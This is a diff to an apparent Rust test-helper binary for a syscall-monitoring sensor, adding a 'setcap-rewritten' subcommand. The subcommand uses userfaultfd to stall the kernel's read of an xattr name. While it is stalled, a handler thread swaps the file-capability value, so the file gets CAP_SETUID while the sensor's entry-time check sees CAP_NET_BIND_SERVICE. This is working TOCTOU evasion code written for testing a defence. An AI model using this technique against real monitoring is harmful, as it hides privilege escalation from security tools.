@@ -44,6 +44,7 @@ fn main() {
         "setns-swapped-fd" => setns_swapped_fd(arg(1).parse().unwrap_or_else(|_| usage())),
         "connect-unread-addr" => connect_unread_addr(&arg(1), &arg(2)),
         "connect-swapped-addr" => connect_swapped_addr(arg(1).parse().unwrap_or_else(|_| usage())),
+        "setcap-rewritten" => setcap_rewritten(&arg(1)),
         _ => usage(),
     };
     match result {
@@ -62,7 +63,7 @@ fn usage() -> ! {
          memfd-exec | mount-tmpfs DIR | move-mount-tmpfs DIR | mount-relative DIR | bind-relative SRC DST | move-mount-as-nobody DIR | \
          mount-setattr-rdonly DIR | mount-setattr-as-nobody DIR | bpf-prog-load | signal PID SIGNAL | signal-as-nobody PID SIGNAL | \
          io-uring-write FILE LINE | clone3-unread-flags FILE | setns-swapped-fd COUNT | \
-         connect-unread-addr FILE IP:PORT|PATH | connect-swapped-addr COUNT"
+         connect-unread-addr FILE IP:PORT|PATH | connect-swapped-addr COUNT | setcap-rewritten FILE"
     );
     std::process::exit(2)
 }
@@ -376,6 +377,141 @@ fn connect_swapped_addr(count: u32) -> Result<String, String> {
     // SAFETY: our own fd.
     unsafe { libc::close(fd) };
     Ok(peers.join("\n"))
+}
+
+/// A `security.capability` value (v2: effective, permitted `caps`).
+fn file_caps_v2(caps: u64) -> [u8; 20] {
+    let mut v = [0u8; 20];
+    v[..4].copy_from_slice(&(0x0200_0000u32 | 1).to_le_bytes());
+    v[4..8].copy_from_slice(&(caps as u32).to_le_bytes());
+    v[12..16].copy_from_slice(&((caps >> 32) as u32).to_le_bytes());
+    v
+}
+
+/// userfaultfd's ABI (linux/userfaultfd.h), which libc does not carry.
+mod uffd {
+    pub const API: u64 = 0xAA;
+    pub const IOC_API: libc::c_ulong = 0xc018_aa3f;
+    pub const IOC_REGISTER: libc::c_ulong = 0xc020_aa00;
+    pub const IOC_COPY: libc::c_ulong = 0xc028_aa03;
+    pub const REGISTER_MODE_MISSING: u64 = 1;
+    pub const EVENT_PAGEFAULT: u8 = 0x12;
+    #[repr(C)]
+    pub struct Api {
+        pub api: u64,
+        pub features: u64,
+        pub ioctls: u64,
+    }
+    #[repr(C)]
+    pub struct Register {
+        pub start: u64,
+        pub len: u64,
+        pub mode: u64,
+        pub ioctls: u64,
+    }
+    #[repr(C)]
+    pub struct Copy {
+        pub dst: u64,
+        pub src: u64,
+        pub len: u64,
+        pub mode: u64,
+        pub copy: i64,
+    }
+}
+
+/// Sets `security.capability` on `file` to CAP_SETUID while the sensor's
+/// read at the call's entry sees CAP_NET_BIND_SERVICE: deterministically,
+/// with no race. The name sits in a page registered with userfaultfd and
+/// not there yet, so the entry's read of it fails and the kernel's copy of
+/// it, which comes before its copy of the value, waits for this process's
+/// handler; the handler rewrites the value (which the entry read already)
+/// and only then supplies the name's page. Prints `ok`.
+fn setcap_rewritten(file: &str) -> Result<String, String> {
+    const PAGE: usize = 4096;
+    // CAP_NET_BIND_SERVICE (10), CAP_SETUID (7).
+    let decoy = file_caps_v2(1 << 10);
+    let real = file_caps_v2(1 << 7);
+    // SAFETY: userfaultfd(2) with its documented flags.
+    let fd = unsafe { libc::syscall(libc::SYS_userfaultfd, libc::O_CLOEXEC) } as i32;
+    if fd < 0 {
+        return Err(format!("userfaultfd: {}", errno()));
+    }
+    let mut api = uffd::Api {
+        api: uffd::API,
+        features: 0,
+        ioctls: 0,
+    };
+    // SAFETY: the API handshake on our fd, with its struct.
+    if unsafe { libc::ioctl(fd, uffd::IOC_API, &mut api) } != 0 {
+        return Err(format!("UFFDIO_API: {}", errno()));
+    }
+    // Two pages: the value in the first (there), the name in the second.
+    // SAFETY: a new anonymous mapping.
+    let at = unsafe {
+        libc::mmap(
+            std::ptr::null_mut(),
+            2 * PAGE,
+            libc::PROT_READ | libc::PROT_WRITE,
+            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
+            -1,
+            0,
+        )
+    };
+    if at == libc::MAP_FAILED {
+        return Err(format!("mmap: {}", errno()));
+    }
+    let value = at.cast::<u8>();
+    // SAFETY: the first page is ours; writing it makes it present.
+    unsafe { std::ptr::copy_nonoverlapping(decoy.as_ptr(), value, decoy.len()) };
+    // SAFETY: inside the mapping.
+    let name = unsafe { value.add(PAGE) };
+    let mut register = uffd::Register {
+        start: name as u64,
+        len: PAGE as u64,
+        mode: uffd::REGISTER_MODE_MISSING,
+        ioctls: 0,
+    };
+    // SAFETY: registers the second page, never touched, with our fd.
+    if unsafe { libc::ioctl(fd, uffd::IOC_REGISTER, &mut register) } != 0 {
+        return Err(format!("UFFDIO_REGISTER: {}", errno()));
+    }
+    let mut source = vec![0u8; PAGE];
+    source[..b"security.capability".len()].copy_from_slice(b"security.capability");
+    let (value_at, name_at) = (value as usize, name as usize);
+    let handler = std::thread::spawn(move || -> Result<(), String> {
+        let mut msg = [0u8; 32];
+        // SAFETY: reads one uffd_msg (32 bytes) from our fd.
+        let n = unsafe { libc::read(fd, msg.as_mut_ptr().cast(), msg.len()) };
+        if n != 32 || msg[0] != uffd::EVENT_PAGEFAULT {
+            return Err(format!(
+                "userfaultfd message: {n} bytes, event {:#x}",
+                msg[0]
+            ));
+        }
+        // SAFETY: the first page of the mapping, present and ours.
+        unsafe { std::ptr::copy_nonoverlapping(real.as_ptr(), value_at as *mut u8, real.len()) };
+        let mut copy = uffd::Copy {
+            dst: name_at as u64,
+            src: source.as_ptr() as u64,
+            len: PAGE as u64,
+            mode: 0,
+            copy: 0,
+        };
+        // SAFETY: fills the registered page from our buffer.
+        if unsafe { libc::ioctl(fd, uffd::IOC_COPY, &mut copy) } != 0 {
+            return Err(format!("UFFDIO_COPY: {}", errno()));
+        }
+        Ok(())
+    });
+    let path = CString::new(file).map_err(|e| e.to_string())?;
+    // SAFETY: setxattr with a path, a name and a value of 20 bytes, all ours.
+    let r = unsafe { libc::setxattr(path.as_ptr(), name.cast(), value.cast(), real.len(), 0) };
+    let set = if r == 0 { Ok(()) } else { Err(errno()) };
+    handler
+        .join()
+        .map_err(|_| "the handler panicked".to_owned())??;
+    set.map_err(|e| format!("setxattr: {e}"))?;
+    Ok("ok".into())
 }
 
 /// `COUNT` setns(fd, CLONE_NEWNET) calls through one fd number under
